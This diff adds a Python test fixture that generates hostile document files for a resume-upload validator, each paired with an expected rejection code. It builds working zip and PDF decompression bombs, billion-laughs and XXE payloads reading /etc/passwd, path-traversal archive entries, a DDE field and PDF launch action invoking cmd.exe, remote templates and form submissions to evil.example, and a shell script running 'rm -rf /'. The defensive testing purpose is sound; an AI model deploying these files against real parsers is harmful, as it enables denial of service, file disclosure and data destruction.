@@ -1,0 +1,584 @@
+"""Files made to harm whoever opens them, each with the reason code that must meet it.
+
+They are built when the tests run: nothing here is stored, so no scanner trips over the repository.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+
+import pikepdf
+
+from tests.hostile.good import (
+    TEXT,
+    assemble_pdf,
+    docx,
+    odt,
+    paragraphs,
+    pdf,
+    relationships,
+    rtf,
+    text_stream,
+    word_document,
+    zipped,
+)
+
+READABLE = "readable"
+MEGABYTE = 1024 * 1024
+# The EICAR test string in two halves, so that this source is not itself a finding.
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """A file by name, how to build it, and its end: "readable" or one of the reason codes."""
+
+    name: str
+    build: Callable[[], bytes]
+    ends: tuple[str, ...]
+
+
+_CORPUS: list[Hostile] = []
+
+
+def hostile(*ends: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
+    """Put a builder into the corpus under its own name, with the ends that are right for it."""
+
+    def add(build: Callable[[], bytes]) -> Callable[[], bytes]:
+        _CORPUS.append(Hostile(build.__name__, build, ends))
+        return build
+
+    return add
+
+
+def corpus() -> Iterator[Hostile]:
+    return iter(_CORPUS)
+
+
+def _packed_zeros(size: int, *, head: bytes = b"", window: int = 15) -> bytes:
+    # Piece by piece: the tests must not grow by what they measure in others.
+    packer = zlib.compressobj(9, zlib.DEFLATED, window)
+    block = bytes(MEGABYTE)
+    packed = [packer.compress(head), *(packer.compress(block) for _ in range(size // MEGABYTE))]
+    return b"".join(packed) + packer.flush()
+
+
+def _deflated_zeros(size: int) -> bytes:
+    return _packed_zeros(size, window=-15)
+
+
+def _zip_entry(
+    name: str, packed: bytes, *, size: int, crc: int = 0, flags: int = 0
+) -> tuple[bytes, Callable[[int], bytes]]:
+    """A local entry and a function that makes its directory row for an offset; all numbers as told, true or not."""
+    raw = name.encode()
+    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, 8, 0, 33, crc, len(packed), size, len(raw), 0)
+
+    def row(offset: int) -> bytes:
+        fields = (20, 20, flags, 8, 0, 33, crc, len(packed), size, len(raw), 0, 0, 0, 0, 0, offset)
+        return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", *fields) + raw
+
+    return local + raw + packed, row
+
+
+def _raw_zip(entries: list[tuple[bytes, Callable[[int], bytes]]]) -> bytes:
+    body, rows = bytearray(), []
+    for content, row in entries:
+        rows.append(row(len(body)))
+        body += content
+    directory = b"".join(rows)
+    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(rows), len(rows), len(directory), len(body), 0)
+    return bytes(body) + directory + end
+
+
+def _deflate(content: bytes) -> bytes:
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return packer.compress(content) + packer.flush()
+
+
+def _word_with(rels: str) -> bytes:
+    return docx(extra={"word/_rels/document.xml.rels": rels})
+
+
+# What is nothing, or something else
+
+
+@hostile("empty_file")
+def empty() -> bytes:
+    return b""
+
+
+@hostile("empty_file")
+def only_nul_bytes() -> bytes:
+    return bytes(5_000)
+
+
+@hostile("too_large")
+def larger_than_allowed() -> bytes:
+    return b"a" * (11 * MEGABYTE)
+
+
+@hostile("legacy_word")
+def old_word_file() -> bytes:
+    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000) + b"WordDocument"
+
+
+@hostile("zip_encrypted")
+def word_file_with_password() -> bytes:
+    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000) + "EncryptedPackage".encode("utf-16-le")
+
+
+@hostile("program")
+def program_with_the_extension_of_a_resume() -> bytes:
+    return b"MZ\x90\x00" + bytes(range(256)) * 20
+
+
+@hostile("program")
+def shell_script() -> bytes:
+    return b"#!/bin/sh\nrm -rf /\n"
+
+
+@hostile("image_file")
+def svg_with_script() -> bytes:
+    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+
+
+@hostile("unknown_type")
+def random_bytes() -> bytes:
+    return bytes((i * 7919 + i // 3) % 251 for i in range(20_000))
+
+
+@hostile("not_a_document")
+def spreadsheet() -> bytes:
+    return zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})
+
+
+@hostile("archive_file")
+def archive_of_a_program() -> bytes:
+    return zipped({"resume.exe": b"MZ" + bytes(100)})
+
+
+# EICAR: the scanner's matter where it is mere content, ours where it hides in a place that documents do not need
+
+
+@hostile(READABLE)
+def eicar_as_text() -> bytes:
+    return EICAR
+
+
+@hostile("embedded_object")
+def eicar_inside_docx() -> bytes:
+    return docx(extra={"word/media/eicar.com": EICAR})
+
+
+@hostile("embedded_object")
+def eicar_inside_odt() -> bytes:
+    return odt(extra={"Pictures/eicar.com": EICAR})
+
+
+@hostile("pdf_embedded_files")
+def eicar_attached_to_pdf() -> bytes:
+    with pikepdf.open(io.BytesIO(pdf())) as document:
+        document.attachments["eicar.com"] = EICAR
+        out = io.BytesIO()
+        document.save(out)
+    return out.getvalue()
+
+
+# Bombs in archives
+
+
+@hostile("zip_bomb")
+def zip_bomb_of_one_gigabyte() -> bytes:
+    return _raw_zip([_zip_entry("word/document.xml", _deflated_zeros(1024 * MEGABYTE), size=1024 * MEGABYTE)])
+
+
+@hostile("zip_bomb")
+def zip_bomb_whose_headers_lie() -> bytes:
+    return _raw_zip([_zip_entry("word/document.xml", _deflated_zeros(500 * MEGABYTE), size=1_000)])
+
+
+@hostile("zip_bomb")
+def picture_that_unpacks_to_more_than_it_says() -> bytes:
+    body = word_document(paragraphs(TEXT)).encode()
+    honest = _zip_entry("word/document.xml", _deflate(body), size=len(body), crc=zlib.crc32(body))
+    return _raw_zip([honest, _zip_entry("word/media/image1.png", _deflated_zeros(60 * MEGABYTE), size=50_000)])
+
+
+@hostile("zip_bomb")
+def overlapping_entries() -> bytes:
+    packed = _deflated_zeros(20 * MEGABYTE)
+    content, row = _zip_entry("word/document.xml", packed, size=MEGABYTE)
+    rows = b"".join(_zip_entry(f"word/{i}.xml", packed, size=MEGABYTE)[1](0) for i in range(40)) + row(0)
+    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 41, 41, len(rows), len(content), 0)
+    return content + rows + end
+
+
+@hostile("zip_entries")
+def sixty_five_thousand_entries() -> bytes:
+    return _raw_zip([_zip_entry(f"word/{i}", b"", size=0) for i in range(65_000)])
+
+
+@hostile("zip_entries")
+def more_entries_than_it_counts() -> bytes:
+    data = bytearray(_raw_zip([_zip_entry(f"word/{i}", b"", size=0) for i in range(30_000)]))
+    at = data.rfind(b"PK\x05\x06")
+    data[at + 8 : at + 12] = struct.pack("<HH", 3, 3)
+    return bytes(data)
+
+
+@hostile("zip_bomb")
+def docx_of_three_million_paragraphs() -> bytes:
+    return docx(body="<w:p/>" * 3_000_000)
+
+
+@hostile("xml_too_large")
+def docx_of_half_a_million_different_paragraphs() -> bytes:
+    return docx(body="".join(f'<w:p w:rsidR="{i * 7919 % 1000003:x}"/>' for i in range(500_000)))
+
+
+@hostile("xml_depth")
+def docx_nested_ten_thousand_deep() -> bytes:
+    return docx(body="<w:sdt>" * 10_000 + "</w:sdt>" * 10_000)
+
+
+@hostile("zip_bomb")
+def twenty_five_megabytes_of_styles() -> bytes:
+    letters = base64.b64encode(bytes((i * 31 + i // 7) % 256 for i in range(300_000))).decode()
+    return docx(extra={f"word/styles{i}.xml": f"<s>{letters}</s>" for i in range(60)})
+
+
+# Paths and names in archives
+
+
+@hostile("zip_path")
+def part_that_climbs_out() -> bytes:
+    return docx(extra={"../../etc/cron.d/evil": "x"})
+
+
+@hostile("zip_path")
+def part_with_an_absolute_path() -> bytes:
+    return docx(extra={"/etc/passwd": "x"})
+
+
+@hostile("zip_path")
+def symbolic_link() -> bytes:
+    out = io.BytesIO(docx())
+    with zipfile.ZipFile(out, "a") as archive:
+        link = zipfile.ZipInfo("word/link.xml")
+        link.external_attr = 0o120777 << 16
+        archive.writestr(link, "/etc/passwd")
+    return out.getvalue()
+
+
+@hostile("zip_duplicate")
+def the_same_part_twice() -> bytes:
+    body = word_document(paragraphs(TEXT)).encode()
+    one = _zip_entry("word/document.xml", _deflate(body), size=len(body), crc=zlib.crc32(body))
+    return _raw_zip([one, _zip_entry("word/Document.xml", _deflate(body), size=len(body), crc=zlib.crc32(body))])
+
+
+@hostile("zip_nested")
+def archive_in_a_docx() -> bytes:
+    return docx(extra={"word/media/image1.png": zipped({"a.txt": "a"})})
+
+
+@hostile("zip_encrypted")
+def encrypted_entry() -> bytes:
+    return _raw_zip([_zip_entry("word/document.xml", b"123456789012", size=20, flags=1)])
+
+
+@hostile(READABLE)
+def unicode_names_in_a_docx() -> bytes:
+    return docx(extra={"word/media/\u202egnp.exe\u2024\u2024\uff0f日本.png": b"\x89PNG\r\n\x1a\n"})
+
+
+# XML
+
+
+@hostile("xml_entities")
+def external_entity() -> bytes:
+    doctype = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    content = word_document(paragraphs("&x;")).replace("?>", "?>" + doctype, 1)
+    return docx(extra={"word/document.xml": content})
+
+
+@hostile("xml_entities")
+def billion_laughs() -> bytes:
+    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
+    content = word_document(paragraphs("&l9;")).replace("?>", f"?><!DOCTYPE w:document [{entities}]>", 1)
+    return docx(extra={"word/document.xml": content})
+
+
+@hostile("xml_entities")
+def doctype_in_utf_16() -> bytes:
+    doctype = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    content = word_document(paragraphs("&x;")).replace("UTF-8", "UTF-16").replace("?>", "?>" + doctype, 1)
+    return docx(extra={"word/document.xml": content.encode("utf-16")})
+
+
+@hostile("xml_entities")
+def external_entity_in_odt() -> bytes:
+    content = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "http://example.org/">]><a>&x;</a>'
+    return odt(extra={"content.xml": content})
+
+
+# Active content in Word, OpenDocument and RTF files
+
+
+@hostile("macros")
+def docx_with_a_macro() -> bytes:
+    return docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
+
+
+@hostile("macros")
+def odt_with_a_macro() -> bytes:
+    return odt(extra={"Basic/Standard/Module1.xml": "<module/>"})
+
+
+@hostile("macros")
+def docx_with_activex() -> bytes:
+    return docx(extra={"word/activeX/activeX1.xml": "<ocx/>"})
+
+
+@hostile("external_template")
+def remote_template() -> bytes:
+    rels = relationships(("attachedTemplate", "http://evil.example/t.dotm", "External"))
+    return docx(extra={"word/_rels/settings.xml.rels": rels})
+
+
+@hostile("external_template")
+def remote_template_on_a_share() -> bytes:
+    return _word_with(relationships(("attachedTemplate", r"file://\\10.0.0.1\share\t.dotm", "External")))
+
+
+@hostile("external_image")
+def tracking_picture() -> bytes:
+    return _word_with(relationships(("image", "https://evil.example/pixel.png", "External")))
+
+
+@hostile("embedded_object")
+def ole_object() -> bytes:
+    return docx(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(100)})
+
+
+@hostile("embedded_object")
+def foreign_html_chunk() -> bytes:
+    return _word_with(relationships(("aFChunk", "chunk.html", "Internal")))
+
+
+@hostile("dde_field")
+def command_in_a_split_field() -> bytes:
+    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DDE", "AUTO c:\\\\cmd.exe"))
+    return docx(body=f"<w:p>{runs}</w:p>")
+
+
+@hostile("embedded_object")
+def object_in_rtf() -> bytes:
+    return rtf(r"{\object\objemb{\*\objdata 0105000002000000}}")
+
+
+@hostile("external_template")
+def remote_template_in_rtf() -> bytes:
+    return rtf(r"{\*\template http://evil.example/t.dotm}Hello")
+
+
+@hostile("rtf_depth")
+def rtf_nested_a_million_deep() -> bytes:
+    return b"{\\rtf1" + b"{" * 1_000_000
+
+
+@hostile(READABLE)
+def rtf_that_counts_its_binary_wrong() -> bytes:
+    return rtf(TEXT.replace("\n", r"\par ") + r"{\pict\bin2147483647 x}")
+
+
+# PDF
+
+
+@hostile("pdf_header")
+def page_and_pdf_in_one() -> bytes:
+    return b"<html><script>alert(1)</script>" + pdf()
+
+
+@hostile("polyglot")
+def archive_and_pdf_in_one() -> bytes:
+    body = pdf()
+    return body[: -len(b"%%EOF\n")] + zipped({"a.txt": "a"}) + b"%%EOF\n"
+
+
+@hostile("pdf_javascript")
+def script_on_opening() -> bytes:
+    return pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")
+
+
+@hostile("pdf_javascript")
+def script_under_an_escaped_name() -> bytes:
+    return pdf(catalog="/OpenAction << /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>")
+
+
+@hostile("pdf_javascript")
+def script_in_an_object_stream() -> bytes:
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(script_on_opening())) as document:
+        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
+    assert b"JavaScript" not in out.getvalue()
+    return out.getvalue()
+
+
+@hostile("pdf_launch")
+def program_started_by_a_link() -> bytes:
+    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /Launch /F (cmd.exe) >> >>"
+    return pdf(page=f"/Annots [{link}]")
+
+
+@hostile("pdf_open_action")
+def web_page_on_opening() -> bytes:
+    return pdf(catalog="/OpenAction << /S /URI /URI (https://evil.example/) >>")
+
+
+@hostile("pdf_form_action")
+def form_that_sends_itself() -> bytes:
+    return pdf(page="/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>")
+
+
+@hostile("pdf_xfa")
+def xfa_form() -> bytes:
+    return pdf(
+        catalog="/AcroForm << /XFA [(template) 4 0 R] >>", objects=(b"<< /Length 4 >>\nstream\n<x/>\nendstream",)
+    )
+
+
+@hostile("pdf_rich_media")
+def flash_in_a_page() -> bytes:
+    return pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]")
+
+
+@hostile("pdf_encrypted")
+def pdf_with_a_password() -> bytes:
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(pdf())) as document:
+        document.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
+    return out.getvalue()
+
+
+@hostile("pdf_too_many_pages")
+def pdf_of_ten_thousand_pages() -> bytes:
+    return pdf(*[b""] * 10_000)
+
+
+@hostile("pdf_too_many_objects")
+def pdf_of_two_hundred_thousand_objects() -> bytes:
+    return pdf(objects=(b"null",) * 200_000)
+
+
+@hostile("pdf_bomb")
+def doubly_packed_content() -> bytes:
+    twice = zlib.compress(_packed_zeros(500 * MEGABYTE), 9)
+    content = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(twice), twice)
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
+    return assemble_pdf(
+        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, content]
+    )
+
+
+@hostile("pdf_bomb")
+def picture_of_ten_billion_pixels() -> bytes:
+    image = (
+        b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 1 "
+    )
+    return pdf(objects=(image + b"/Length 1 >>\nstream\nx\nendstream",))
+
+
+@hostile("pdf_bomb", "too_much_memory", "pdf_damaged")
+def bomb_in_an_object_stream() -> bytes:
+    packed = _packed_zeros(400 * MEGABYTE, head=b"5 0 ")
+    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
+    return pdf(objects=(stream % (len(packed), packed),))
+
+
+@hostile(READABLE, "pdf_damaged")
+def arrays_nested_a_hundred_thousand_deep() -> bytes:
+    return pdf(catalog="/Names " + "[" * 100_000 + "]" * 100_000)
+
+
+@hostile("pdf_damaged")
+def page_tree_that_bites_its_tail() -> bytes:
+    return assemble_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])
+
+
+# Nobody can read eleven points on five kilometres of paper.
+@hostile("no_text")
+def page_as_large_as_a_field() -> bytes:
+    return pdf(box="0 0 14400000 14400000")
+
+
+@hostile(READABLE, "no_text")
+def form_that_draws_itself() -> bytes:
+    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 6 >>"
+    return pdf(
+        b"/X Do " + text_stream(),
+        objects=(form + b"\nstream\n/X Do \nendstream",),
+        page="/Resources << /Font << /F1 3 0 R >> /XObject << /X 4 0 R >> >>",
+    )
+
+
+@hostile("too_slow")
+def page_of_half_a_million_strokes() -> bytes:
+    return pdf(text_stream() + b" 0 0 m 600 700 l S" * 500_000)
+
+
+@hostile("pdf_damaged")
+def pdf_cut_in_half() -> bytes:
+    body = pdf(*[text_stream()] * 5)
+    return body[: len(body) // 2]
+
+
+@hostile("pdf_damaged")
+def pdf_header_and_nothing_else() -> bytes:
+    return b"%PDF-1.7\n" + b"garbage " * 500 + b"\n%%EOF\n"
+
+
+@hostile("damaged_file")
+def docx_cut_in_half() -> bytes:
+    body = docx(body=paragraphs("\n".join(f"line {i * 7919 % 1000003}" for i in range(3_000))))
+    return body[: len(body) // 2]
+
+
+# Text
+
+
+@hostile("too_much_text")
+def nine_megabytes_in_one_line() -> bytes:
+    return b"a" * (9 * MEGABYTE)
+
+
+@hostile("too_much_text", READABLE)
+def hyphens_without_end() -> bytes:
+    return b"ab-\ncd" * 150_000
+
+
+@hostile(READABLE)
+def text_with_some_nul_bytes() -> bytes:
+    return TEXT.encode().replace(b"at ", b"at\x00 ")
+
+
+@hostile("html_depth")
+def page_nested_a_million_deep() -> bytes:
+    return b"<html><body>" + b"<div>" * 1_000_000
+
+
+@hostile("no_text")
+def page_of_open_comments() -> bytes:
+    return b"<html>" + b"<!-- " * 1_000_000 + b"text"
+
+
+@hostile(READABLE)
+def page_with_script() -> bytes:
+    return f"<html><script>steal()</script><body onload='steal()'><p>{TEXT}</p></body></html>".encode()
